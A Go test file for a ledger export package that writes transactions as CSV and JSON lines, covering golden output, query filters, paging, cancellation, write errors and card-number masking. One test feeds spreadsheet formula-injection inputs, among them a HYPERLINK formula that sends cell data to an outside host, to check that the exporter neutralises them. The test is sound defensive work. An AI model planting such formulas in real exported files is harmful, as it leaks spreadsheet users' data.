package inspect_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"dummyorders/domain/fraud"
	"dummyorders/domain/identity"
	"dummyorders/domain/ledger"
	"dummyorders/domain/transaction"
	"dummyorders/gateways/ledger/inspect"
	"dummyorders/internal/goldentest"
)

// onRecord returns transactions that fill every column, at fixed times.
func onRecord(t *testing.T) *memory {
	t.Helper()
	text, err := os.ReadFile("testdata/records.jsonl")
	require.NoError(t, err)
	store := &memory{}
	for line := range strings.Lines(string(text)) {
		var r ledger.Record
		require.NoError(t, json.Unmarshal([]byte(line), &r))
		store.put(r)
	}
	return store
}

func export(t *testing.T, store *memory, q ledger.Query, format inspect.Format) string {
	t.Helper()
	var out bytes.Buffer
	written, err := inspect.Export(t.Context(), store, q, format, &out)
	require.NoError(t, err)
	if lines := strings.Count(out.String(), "\n"); format == inspect.JSONLines {
		require.Equal(t, lines, written)
	}
	return out.String()
}

func TestExportCSV(t *testing.T) {
	// Programs read these columns.
	goldentest.Same(t, "testdata/export.csv", export(t, onRecord(t), ledger.Query{Merchants: identity.AllMerchants()}, inspect.CSV))
}

// JSON lines are whole records, the newest first.
func TestExportJSONLines(t *testing.T) {
	want, err := os.ReadFile("testdata/records.jsonl")
	require.NoError(t, err)
	assert.Empty(t, cmp.Diff(string(want), export(t, onRecord(t), ledger.Query{Merchants: identity.AllMerchants()}, inspect.JSONLines)), "lines (-want +got)")
}

func TestCSVHasNoFormula(t *testing.T) {
	for _, text := range []string{
		`=HYPERLINK("http://example.com/?"&A1,"look")`, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1", "＋1", "－1", "＠1", "'=1",
	} {
		r := paid("1")
		r.Order.Name = text
		store := &memory{}
		store.put(*r)
		lines := readCSV(t, export(t, store, ledger.Query{Merchants: identity.AllMerchants()}, inspect.CSV))
		got := lines[0]["orderName"]
		assert.True(t, strings.HasPrefix(got, "'"), "%q is written as %q, want it as it is, after an apostrophe", text, got)
		assert.Equal(t, strings.ReplaceAll(text, "\r", ""), strings.ReplaceAll(got[1:], "\r", ""))
	}
	for _, text := range []string{"", "book", "1-2", "a=b", "–dash", `say "hi", twice`, "two\nlines"} {
		r := paid("1")
		r.Order.Name = text
		store := &memory{}
		store.put(*r)
		require.Equal(t, text, readCSV(t, export(t, store, ledger.Query{Merchants: identity.AllMerchants()}, inspect.CSV))[0]["orderName"])
	}
}

// An export of nothing has a header in CSV only.
func TestExportNothing(t *testing.T) {
	header := export(t, &memory{}, ledger.Query{Merchants: identity.AllMerchants()}, inspect.CSV)
	require.True(t, strings.HasPrefix(header, "transactionID,startTime,endTime,"), header)
	require.Equal(t, 1, strings.Count(header, "\n"))
	require.Empty(t, export(t, &memory{}, ledger.Query{Merchants: identity.AllMerchants()}, inspect.JSONLines))
}

// An export holds what was asked for.
func TestExportQuery(t *testing.T) {
	store := &memory{}
	store.put(*paid("paid"))
	store.put(*waiting("waiting"))
	old := opened("old")
	old.StartTime = after(-100)
	store.put(*old)
	for want, q := range map[string]ledger.Query{
		"waiting paid old": {},
		"waiting":          {Status: transaction.InReview},
		"waiting paid":     {Outcome: fraud.Review},
		"old":              {Until: start},
		"":                 {Since: after(1)},
	} {
		var ids []string
		for _, line := range readCSV(t, export(t, store, q, inspect.CSV)) {
			ids = append(ids, line["transactionID"])
		}
		require.Equal(t, want, strings.Join(ids, " "))
	}
}

func TestExportPages(t *testing.T) {
	store := &memory{}
	for i := range 1200 {
		store.put(*paid(fmt.Sprintf("%04d", i)))
	}
	lines := readCSV(t, export(t, store, ledger.Query{Merchants: identity.AllMerchants()}, inspect.CSV))
	require.Len(t, lines, 1200)
	for i, line := range lines {
		require.Equal(t, fmt.Sprintf("%04d", 1199-i), line["transactionID"])
	}
}

// An export that is stopped ends with a whole line.
func TestExportStopped(t *testing.T) {
	store := &memory{}
	for i := range 1000 {
		store.put(*paid(fmt.Sprintf("%04d", i)))
	}
	for _, format := range []inspect.Format{inspect.CSV, inspect.JSONLines} {
		ctx, stop := context.WithCancel(t.Context())
		out := &stopping{stop: stop}
		written, err := inspect.Export(ctx, store, ledger.Query{Merchants: identity.AllMerchants()}, format, out)
		require.ErrorIs(t, err, context.Canceled)
		require.Less(t, written, 1000)
		require.True(t, strings.HasSuffix(out.String(), "\n"))
		if format == inspect.CSV {
			require.Len(t, readCSV(t, out.String()), written)
			continue
		}
		lines := bufio.NewScanner(&out.Buffer)
		for range written {
			require.True(t, lines.Scan())
			require.True(t, json.Valid(lines.Bytes()))
		}
	}
}

func TestExportWriteError(t *testing.T) {
	full := errors.New("no space left on device")
	store := &memory{}
	store.put(*paid("1"))
	for _, format := range []inspect.Format{inspect.CSV, inspect.JSONLines} {
		_, err := inspect.Export(t.Context(), store, ledger.Query{Merchants: identity.AllMerchants()}, format, broken{full})
		require.ErrorIs(t, err, full)
	}
	_, err := inspect.Export(t.Context(), &memory{err: full}, ledger.Query{Merchants: identity.AllMerchants()}, inspect.CSV, &bytes.Buffer{})
	require.ErrorIs(t, err, full)
}

// stopping stops its writer at the first write.
type stopping struct {
	bytes.Buffer

	stop func()
}

func (s *stopping) Write(piece []byte) (int, error) {
	s.stop()
	return s.Buffer.Write(piece)
}

type broken struct{ err error }

func (b broken) Write([]byte) (int, error) { return 0, b.err }

// readCSV returns the lines by the names of their columns.
func readCSV(t *testing.T, text string) []map[string]string {
	t.Helper()
	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	require.NoError(t, err)
	lines := make([]map[string]string, 0, len(all))
	for _, cells := range all[1:] {
		line := map[string]string{}
		for i, name := range all[0] {
			line[name] = cells[i]
		}
		lines = append(lines, line)
	}
	return lines
}

// The file of records is made once and then stays the same: otherwise its times would change every day.
func TestSamplesFillEveryColumn(t *testing.T) {
	lines := readCSV(t, export(t, onRecord(t), ledger.Query{Merchants: identity.AllMerchants()}, inspect.CSV))
	for name := range lines[0] {
		filled := false
		for _, line := range lines {
			filled = filled || line[name] != ""
		}
		require.True(t, filled, name)
	}
	for _, line := range lines {
		_, err := time.Parse(time.RFC3339, line["startTime"])
		require.NoError(t, err)
	}
}

// A record that holds a card number, as none should, is exported with its mask.
func TestExportMasksCardNumbers(t *testing.T) {
	book := onRecord(t)
	for id, e := range book.entries {
		e.Record.Order.ID, e.Record.Order.Name = "4716190207394368", "cvv 123 of 4716-1902-0739-4368"
		book.entries[id] = e
	}
	for _, format := range []inspect.Format{inspect.CSV, inspect.JSONLines} {
		t.Run(string(format), func(t *testing.T) {
			got := export(t, book, ledger.Query{Merchants: identity.AllMerchants()}, format)
			if strings.Contains(got, "0207394368") || strings.Contains(got, "0739-4368") || strings.Contains(got, "cvv 123") {
				t.Errorf("a card number or verification value is in %s", got)
			}
			if strings.Count(got, "471619******4368") != 2*len(book.entries) {
				t.Errorf("the mask is not in %s", got)
			}
		})
	}
}
